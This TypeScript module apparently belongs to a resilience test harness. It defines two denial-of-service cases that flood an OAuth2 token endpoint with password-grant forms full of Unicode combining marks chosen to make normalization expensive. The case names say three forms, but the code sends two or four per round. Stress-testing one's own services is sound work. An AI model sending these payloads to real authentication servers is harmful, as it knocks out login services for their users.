import type { Attack } from '../attack.ts';
import { FORM_TYPE, requestText, tokenRequest } from '../wire.ts';

/** Two marks in the order that normalization has to turn round. */
const MARKS = '\u0301\u0323';

export const largeForms: Attack = {
  name: '3 token forms of 640 KB of combining marks',
  prepare() {
    const username = encodeURIComponent(MARKS.repeat(160_000)).slice(0, 640_000);
    const body = `grant_type=password&client_id=demo-app&client_secret=demo-secret&password=x&username=${username}`;
    const request = requestText('POST', '/oauth2/token', { body, type: FORM_TYPE });
    return Promise.resolve({ everyMs: 250, round: (wire) => void [1, 2].forEach(() => wire.send(request)) });
  },
};

export const mediumForms: Attack = {
  name: '3 token forms as large as they may be',
  prepare() {
    const long = MARKS.repeat(127);
    const request = tokenRequest({ grant_type: 'password', username: long, password: MARKS.repeat(100), scope: long });
    return Promise.resolve({ everyMs: 100, round: (wire) => void [1, 2, 3, 4].forEach(() => wire.send(request)) });
  },
};
